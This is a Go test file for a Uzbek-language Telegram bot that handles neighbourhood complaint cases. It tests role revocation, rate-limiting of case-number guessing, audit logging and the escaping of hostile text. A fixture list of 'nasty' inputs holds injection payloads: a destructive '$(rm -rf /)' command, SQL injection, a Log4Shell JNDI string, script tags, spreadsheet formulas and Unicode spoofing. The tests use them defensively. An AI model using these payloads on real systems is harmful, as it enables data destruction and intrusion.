package handlers_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"koprik/bot/simulator"
	"koprik/locales"
	"koprik/mahalla"
	"koprik/storage"
)

// contactOf is a person as the bot knows them.
func (s *stage) contactOf(u *simulator.User) (c *storage.Contact) {
	s.t.Helper()
	s.must(s.db.Read(s.ctx, func(tx *storage.Tx) (err error) {
		c, err = tx.ContactByTelegram(u.ID())
		return err
	}))
	return c
}

// report files what somebody wrote, and finds the case.
func (s *stage) report(u *simulator.User, words, topic string) (id mahalla.CaseID) {
	s.t.Helper()
	s.says(u, words)
	s.press(u, topic)
	s.must(s.db.Read(s.ctx, func(tx *storage.Tx) error {
		lines, _, err := tx.CasesOfReporter(s.contactOf(u).ID, 0, 1)
		if err == nil && len(lines) == 1 {
			id = lines[0].ID
		}
		return err
	}))
	return id
}

func (s *stage) caseOf(id mahalla.CaseID) (c *mahalla.Case) {
	s.t.Helper()
	s.must(s.db.Read(s.ctx, func(tx *storage.Tx) (err error) {
		c, err = tx.Case(id)
		return err
	}))
	return c
}

func TestAfterARoleIsRevokedInMidDialogueEveryPressAndCommandIsRefused(t *testing.T) {
	t.Parallel()
	s := newStage(t, monday)
	inspector, resident := s.officer("Inspector"), s.known("Resident")
	waiting := s.report(resident, "Har kecha musiqa", "🔊")
	own := s.report(resident, "Chiroq yonmayapti", "💡")
	s.press(inspector, "✅")
	s.press(inspector, "🏁") // the outcomes are shown
	s.press(inspector, "🏁 Hal")
	var presses []struct {
		message int
		label   string
	}
	for _, m := range inspector.Messages() {
		for _, row := range m.Buttons {
			for _, b := range row {
				presses = append(presses, struct {
					message int
					label   string
				}{m.ID, b.Text})
			}
		}
	}
	if len(presses) < 3 {
		t.Fatalf("buttons in the chat: got %d, want some", len(presses))
	}
	officer := s.contactOf(inspector).ID
	s.now = s.now.Add(time.Minute)
	// Nothing of it is delivered yet: the old buttons are still on the screen.
	s.must(s.db.InTx(s.ctx, func(tx *storage.Tx) error { return s.desk.Revoke(tx, officer, s.now) }))
	for _, p := range presses {
		if _, err := inspector.Press(p.message, p.label); err != nil {
			t.Errorf("%q: %v", p.label, err)
		}
	}
	s.settle()
	for _, id := range []mahalla.CaseID{waiting, own} {
		c := s.caseOf(id)
		s.says(inspector, "Endi tinch", "/qabul "+c.Number.String(), "/yop "+c.Number.String()+" hal: boʻldi", "/karta "+c.Number.String(),
			"/sora "+c.Number.String()+" kim?", "/vada "+c.Number.String()+" 25.11 15:00", "/otkaz "+c.Number.String())
		if c = s.caseOf(id); c.Status != mahalla.New || c.Owner != 0 || c.AskedAt != (time.Time{}) {
			t.Errorf("the case after all that: got %s of %d, want it new and nobody's", c.Status, c.Owner)
		}
	}
	after := 0
	for _, m := range inspector.Messages() {
		if m.FromBot && !m.Deleted && (strings.Contains(m.Text, "musiqa") || strings.Contains(m.Text, "Chiroq yonmayapti")) {
			after++
			t.Errorf("the chat still shows %q", m.Text)
		}
	}
	s.checkHonour(t)
	if err := s.db.InTx(s.ctx, func(tx *storage.Tx) error { return s.desk.Revoke(tx, officer, s.now) }); err == nil {
		t.Error("once more: got no error, want that the person does not serve")
	}
}

func TestAHundredThousandGuessesOfNumbersFindNothingAndTellNothing(t *testing.T) {
	if testing.Short() {
		t.Skip("many")
	}
	t.Parallel()
	s := newStage(t, monday)
	resident, stranger := s.known("Resident"), s.known("Stranger")
	id := s.report(resident, "Har kecha musiqa", "🔊")
	who, c := s.contactOf(stranger), s.caseOf(id)
	reason := func(tx *storage.Tx, typed string) string {
		_, err := s.desk.CaseByNumber(tx, who, typed, s.now)
		var refusal *mahalla.Error
		if !errors.As(err, &refusal) {
			t.Fatalf("%s: got %v, want it refused", typed, err)
		}
		return fmt.Sprint(refusal.Code, refusal.Reason, refusal.Args)
	}
	const guesses = 100_000
	hits := 0
	s.must(s.db.Read(s.ctx, func(tx *storage.Tx) error {
		theirs := reason(tx, c.Number.String())
		for n := range uint64(guesses) {
			guess := mahalla.NumberFrom(n * 7919)
			if reason(tx, guess.String()) != theirs {
				hits++
			}
		}
		return nil
	}))
	if hits != 0 {
		t.Errorf("guesses that were told something else than somebody else's number: got %d, want 0", hits)
	}
	t.Logf("guesses %d hits %d", guesses, hits)
}

// nasty are words that try to be something else in the chat of an officer.
func nasty() []string {
	list := []string{
		"<b>qalin</b>", "<a href=\"https://evil.example\">bosing</a>", "<a href='tg://user?id=1'>@admin</a>", "</b></i></a>", "<script>alert(1)</script>",
		"&lt;b&gt;", "&amp;amp;", "&#60;b&#62;", "<!-- x -->", "<![CDATA[x]]>", "<pre><code class=\"x\">", "<tg-spoiler>x</tg-spoiler>", "<blockquote expandable>x",
		"*qalin* _yotiq_ `kod`", "[bosing](https://evil.example)", "[x](tg://user?id=1)", "||yashirin||", "~~~", "```go\nx\n```", "__x__",
		"{{.name}}", "{{template \"x\"}}", "%s%n%d%!v(MISSING)", "${jndi:ldap://evil}", "$(rm -rf /)", "`id`", "'; DROP TABLE cases; --", "\" OR 1=1 --",
		"=HYPERLINK(\"https://evil\")", "+1+1", "-2+3", "@SUM(1)", "\tx", "/qabul 1234-5678", "/start i_x", "@koprik_bot", "#teg", "$USD",
		"✅ Qabul qildim", "🟢 № 4821-0937 · yopildi", "№ 0000-0000 · 🔊 Shovqin", "⏱ bugun 11:00 gacha qabul qiling", "https://evil.example/a?b=<c>", "evil.example", "tel:+998901234567",
		"test@evil.example", "+998 90 123 45 67", "8600 1234 5678 9012", "\u202eteskari", "\u2066ichki\u2069", "\u200f\u200eoʻng", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307", "z\u0336\u0347a\u0336l\u0347g\u0336o",
		"\u200bkoʻrinmas\u200b", "x\ufeffy", "\u00adyumshoq", "👨‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e007f", "\U000e0041\U000e0042", "﷽﷽﷽", "𝕬𝖉𝖒𝖎𝖓", "Ａｄｍｉｎ", "аdmin", "ᎪᏢᏢ",
		"\x00nol", "\x07\x08", "qator\nqator\n\n\n\nqator", "\r\nx", "\u2028x\u2029", "\x1b[31mqizil\x1b[0m", "\\u003cb\\u003e", "%3Cb%3E", "\\x3cb\\x3e",
	}
	for n := len(list); n < 100; n++ {
		list = append(list, strings.Repeat([]string{"<", "&", ">", "\"", "<b>", "]]>", "`", "_*["}[n%8], n)+" oxiri")
	}
	return list
}

func TestAHundredNastyTextsShowAsTheyAre(t *testing.T) {
	t.Parallel()
	s := newStage(t, monday)
	inspector, resident := s.officer("Inspector"), s.known("Resident")
	number := s.caseOf(s.report(resident, "Har kecha musiqa", "🔊")).Number.String()
	s.press(inspector, "✅")
	for _, words := range nasty() {
		before := len(inspector.Messages())
		resident.Text("/qoshimcha " + number + " yana: " + words)
		s.settle()
		want := locales.Clean("yana: " + words)
		found := false
		for _, m := range inspector.Messages()[before:] {
			found = found || m.FromBot && strings.Contains(m.Text, want)
			for _, e := range m.Entities {
				if e.Type == "text_link" || e.Type == "text_mention" {
					t.Errorf("%q became a link: %+v", words, e)
				}
			}
		}
		if !found && len(want) < 200 {
			t.Errorf("%q: the officer was not shown %q as it is", words, want)
		}
	}
	for _, c := range s.telegram.Calls() {
		if c.Method == "sendMessage" && c.ChatID == inspector.ID() && strings.Contains(fmt.Sprint(c.Params["text"]), "evil.example") &&
			!strings.Contains(fmt.Sprint(c.Params["link_preview_options"]), "true") {
			t.Errorf("a link may show a preview: %v", c.Params["link_preview_options"])
		}
	}
	s.checkHonour(t)
}

func TestWhoeverAsksForTooManyNumbersOfOthersIsAnsweredWithoutALookUp(t *testing.T) {
	t.Parallel()
	s := newStage(t, monday)
	officer, resident, stranger := s.officer("Inspector"), s.known("Resident"), s.known("Stranger")
	theirs := s.caseOf(s.report(resident, "Har kecha musiqa", "🔊")).Number.String()
	own := s.caseOf(s.report(stranger, "Chiroq yonmayapti", "💡")).Number.String()
	// asks is what somebody is told after writing something.
	asks := func(u *simulator.User, words string) string {
		before := len(u.Messages())
		s.says(u, words)
		var b strings.Builder
		for _, m := range u.Messages()[before:] {
			if m.FromBot {
				b.WriteString(m.Text + "\n")
			}
		}
		return b.String()
	}
	finds := func(u *simulator.User, number string) bool {
		return strings.Contains(asks(u, "/karta "+number), "№ "+number)
	}
	refusal := asks(stranger, "/karta "+theirs)
	for n := range uint64(18) {
		s.now = s.now.Add(time.Minute)
		ways := []string{"/karta ", "/qoshimcha ", "/qaytarish ", "/raqam ", "/tozala ", "/chiqish "}
		if got := asks(stranger, ways[n%6]+mahalla.NumberFrom(n*7919).String()); got != refusal {
			t.Fatalf("guess %d: got %q, want %q", n, got, refusal)
		}
	}
	if !finds(stranger, own) {
		t.Error("after 19 guesses the own number is not found, want it to be")
	}
	s.reopen()
	asks(stranger, "/karta "+theirs)
	s.now = s.now.Add(time.Minute)
	if got := asks(stranger, "/karta "+own); got != refusal {
		t.Errorf("after 20 guesses: got %q for the own number, want nothing to be looked up: %q", got, refusal)
	}
	for range 3 { // what is not looked up does not prolong it
		s.now = s.now.Add(time.Minute)
		asks(stranger, "/karta "+theirs)
	}
	before := lastCall(s)
	s.says(stranger, "/qoshimcha "+theirs+" Yordam bering, pichoq bilan quvlayapti")
	s.press(stranger, "⚠️")
	if rang := cards(since(s, before), officer); len(rang) != 1 || !rang[0] {
		t.Errorf("a call for help meanwhile: cards rang %v, want one that does", rang)
	}
	s.now = s.now.Add(time.Hour - 20*time.Minute)
	if !finds(stranger, own) {
		t.Error("an hour after the first guesses the own number is not found, want it to be")
	}
	s.checkHonour(t)
}

func TestAnOfficerWhoGuessesStillSearchesTheOwnTerritory(t *testing.T) {
	t.Parallel()
	s := newStage(t, monday)
	officer, resident := s.officer("Inspector"), s.known("Resident")
	number := s.caseOf(s.report(resident, "Har kecha musiqa", "🔊")).Number
	s.must(s.db.InTx(s.ctx, func(tx *storage.Tx) error {
		who := s.contactOf(officer)
		for n := range uint64(40) {
			if _, err := s.desk.Search(tx, who, mahalla.NumberFrom(n*7919).String(), 0, s.now); err != nil {
				return err
			}
		}
		if !who.Dialogue.Guessing(s.now) {
			t.Error("after 40 numbers of nobody: got no limit, want one")
		}
		found, err := s.desk.Search(tx, who, number.String(), 0, s.now)
		if err == nil && found.Total != 1 {
			t.Errorf("a number of the own territory: got %d found, want 1", found.Total)
		}
		return err
	}))
}

func TestWhoOpensACaseThatTheyWereNotToldOfDoesItOnRecord(t *testing.T) {
	t.Parallel()
	s := newStage(t, monday)
	inspector, resident := s.officer("Inspector"), s.known("Resident")
	senior := s.telegram.AddPerson(simulator.Person{Key: "Senior", Language: "uz"})
	s.join(senior, mahalla.SeniorInspector, "9901-S4")
	id := s.report(resident, "Har kecha musiqa", "🔊")
	number := s.caseOf(id).Number.String()
	for _, row := range []struct {
		name string
		who  *simulator.User
		want int
	}{{"who was told", inspector, 0}, {"who was not", senior, 1}, {"who reported it", resident, 0}} {
		s.says(row.who, "/karta "+number)
		if newest(row.who, "Har kecha musiqa") == "" {
			t.Errorf("%s: sees no card", row.name)
		}
		s.must(s.db.Read(s.ctx, func(tx *storage.Tx) error {
			acts, cases, err := tx.Readings(s.contactOf(row.who).ID, storage.ActOpen, s.now.Add(-time.Hour))
			if acts != row.want || cases != row.want {
				t.Errorf("%s: got %d rows of %d cases, want %d", row.name, acts, cases, row.want)
			}
			return err
		}))
	}
}
